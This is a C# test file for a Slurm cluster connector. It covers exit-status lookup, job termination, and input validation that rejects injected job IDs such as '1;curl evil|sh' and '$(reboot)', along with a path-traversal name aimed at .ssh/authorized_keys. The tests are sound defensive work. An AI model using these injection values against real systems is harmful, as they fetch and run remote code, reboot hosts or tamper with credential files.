using Dssr.Engine.Connectors;

namespace Dssr.Connectors.Slurm.Tests;

/// <summary>The sources of a job's end, asked in order; and what must never happen to a running job.</summary>
public sealed class ExitStatusChainTests
{
    private static readonly string[] Scontrol = ["scontrol", "show", "job", "-o"];
    private static readonly string[] Sacct = ["sacct", "-X"];
    private static readonly string[] Completion = ["sacct", "--completion"];

    private static FakeShell Forgotten() => new FakeShell()
        .On(Scontrol, 1, stderr: "slurm_load_jobs error: Invalid job id specified\n")
        .On(Sacct, 1, stderr: "Slurm accounting storage is disabled\n")
        .On(["tail"], 0, "last lines\n")
        .On(["rm"], 0);

    [Fact]
    public async Task A_running_job_is_a_still_running_error_and_its_files_are_kept()
    {
        var shell = new FakeShell().On(Scontrol, 0, "JobId=5 JobState=RUNNING RunTime=00:00:09");
        await using var slurm = FakeCluster.Connector(shell);
        await Assert.ThrowsAsync<JobStillRunningException>(() => slurm.ExitStatusAsync(new JobRef("job_s1", 1, "5"), CancellationToken.None));
        Assert.False(shell.Ran("rm"));
        Assert.False(shell.Ran("tail"));
    }

    [Fact]
    public async Task A_job_slurm_still_knows_is_answered_from_scontrol_then_its_files_are_removed()
    {
        var shell = new FakeShell()
            .On(Scontrol, 0, "JobId=5 JobState=FAILED RunTime=1-00:00:01")
            .On(["tail"], 0, "out\n")
            .On(["rm"], 0);
        await using var slurm = FakeCluster.Connector(shell);
        var status = await slurm.ExitStatusAsync(new JobRef("job_s1", 1, "5"), CancellationToken.None);
        Assert.Equal(1, status.ExitCode);
        Assert.Equal("24:00:01", status.Elapsed);
        Assert.Equal(["out\n", "<< termination state: FAILED -- see STDOUT for job errors >>"], status.Logs);
        Assert.Equal(["rm", "-rf", "--", ".jarvice/job_s1.out", ".jarvice/jobs/5"], shell.Commands.Last().Argv);
        Assert.False(shell.Ran("sacct"));
    }

    [Fact]
    public async Task Without_accounting_the_jobcomp_log_answers_with_the_full_cancelled_state()
    {
        var shell = Forgotten().On(Completion, 0, "5|CANCELLED by 1001|00:02:03\n");
        await using var slurm = FakeCluster.Connector(shell);
        var status = await slurm.ExitStatusAsync(new JobRef("job_s1", 1, "5"), CancellationToken.None);
        Assert.Equal(-15, status.ExitCode);
        Assert.Equal("00:02:03", status.Elapsed);
        Assert.Equal("CANCELLED", status.FinalState);
    }

    [Fact]
    public async Task Accounting_answers_before_the_jobcomp_log()
    {
        var shell = new FakeShell()
            .On(Scontrol, 1, stderr: "Invalid job id specified")
            .On(Sacct, 0, "5|COMPLETED|00:00:07\n")
            .On(["tail"], 0, "")
            .On(["rm"], 0);
        await using var slurm = FakeCluster.Connector(shell);
        var status = await slurm.ExitStatusAsync(new JobRef("job_s1", 1, "5"), CancellationToken.None);
        Assert.Equal(0, status.ExitCode);
        Assert.False(shell.Ran(Completion));
    }

    [Fact]
    public async Task When_slurm_has_forgotten_everything_the_journals_last_state_answers()
    {
        var shell = Forgotten().On(Completion, 1, stderr: "sacct: error: no jobcomp file\n");
        await using var slurm = FakeCluster.Connector(shell);
        var status = await slurm.ExitStatusAsync(new JobRef("job_s1", 1, "5", LastState: "CD"), CancellationToken.None);
        Assert.Equal(0, status.ExitCode);
        Assert.Equal("00:00:00", status.Elapsed);
        Assert.Equal("<< termination state: COMPLETED -- see STDOUT for job errors >>", status.Logs[1]);
    }

    [Fact]
    public async Task A_job_id_that_is_not_a_number_never_reaches_a_command()
    {
        var shell = new FakeShell();
        await using var slurm = FakeCluster.Connector(shell);
        var error = await Assert.ThrowsAsync<InvalidInputException>(() =>
            slurm.ExitStatusAsync(new JobRef("job_s1", 1, "1;curl evil|sh"), CancellationToken.None));
        Assert.Equal("jobid", error.Field);
        await Assert.ThrowsAsync<InvalidInputException>(() => slurm.TerminateAsync(new JobRef("x", 1, "$(reboot)"), CancellationToken.None));
        Assert.Empty(shell.Commands);
    }

    [Fact]
    public async Task A_name_that_would_leave_the_jobs_folder_never_reaches_rm()
    {
        var shell = new FakeShell().On(Scontrol, 0, "JobState=COMPLETED RunTime=00:00:01");
        await using var slurm = FakeCluster.Connector(shell);
        var error = await Assert.ThrowsAsync<InvalidInputException>(() =>
            slurm.ExitStatusAsync(new JobRef("../../.ssh/authorized_keys", 1, "5"), CancellationToken.None));
        Assert.Equal("name", error.Field);
        Assert.False(shell.Ran("rm"));
    }

    [Fact]
    public async Task Terminate_fails_when_scancel_fails_but_not_when_the_job_is_already_over()
    {
        var refused = new FakeShell().On(["scancel"], 1, stderr: "scancel: error: Kill job error on job id 5: Access/permission denied\n");
        await using (var slurm = FakeCluster.Connector(refused))
            await Assert.ThrowsAsync<ConnectorException>(() => slurm.TerminateAsync(new JobRef("j", 1, "5"), CancellationToken.None));
        var over = new FakeShell().On(["scancel"], 1, stderr: "scancel: error: Kill job error on job id 5: Job/step already completing or completed\n");
        await using (var slurm = FakeCluster.Connector(over))
            await slurm.TerminateAsync(new JobRef("j", 1, "5"), CancellationToken.None);
    }

    [Fact]
    public async Task A_failed_squeue_is_an_error_never_an_empty_snapshot()
    {
        var shell = new FakeShell().On(["squeue"], 1, stderr: "slurm_load_jobs error: Unable to contact slurm controller\n");
        await using var slurm = FakeCluster.Connector(shell);
        var error = await Assert.ThrowsAsync<ConnectorException>(() => slurm.QueryQueueAsync(CancellationToken.None));
        Assert.Contains("Unable to contact slurm controller", error.Message);
    }
}

public sealed class ExitStatusNameTests
{
    [Fact]
    public async Task Another_jobs_id_under_this_name_is_refused_before_any_file_is_touched()
    {
        var shell = new FakeShell().On(["scontrol", "show", "job", "-o"], 0, "JobId=5 JobName=jarvice_other_s1 JobState=COMPLETED RunTime=00:00:01");
        await using var slurm = FakeCluster.Connector(shell);
        var error = await Assert.ThrowsAsync<Dssr.Engine.Connectors.InvalidInputException>(() =>
            slurm.ExitStatusAsync(new Dssr.Engine.Connectors.JobRef("mine_s1", 1, "5"), CancellationToken.None));
        Assert.Equal("jobid", error.Field);
        Assert.False(shell.Ran("tail"));
        Assert.False(shell.Ran("rm"));
    }
}

public sealed class ExitStatusLogTests
{
    [Fact]
    public async Task The_logs_are_the_configured_number_of_last_lines()
    {
        var shell = new FakeShell()
            .On(["scontrol", "show", "job", "-o"], 0, "JobState=COMPLETED RunTime=00:00:01")
            .On(["tail"], 0, "a\n")
            .On(["rm"], 0);
        await using var slurm = FakeCluster.Connector(shell, new() { ["JARVICE_SLURM_LOG_LINES"] = "3" });
        await slurm.ExitStatusAsync(new Dssr.Engine.Connectors.JobRef("job_s1", 1, "5"), CancellationToken.None);
        Assert.Equal(["tail", "-n", "3", "--", ".jarvice/job_s1.out"], shell.Commands.Single(c => c.Argv[0] == "tail").Argv);
    }
}
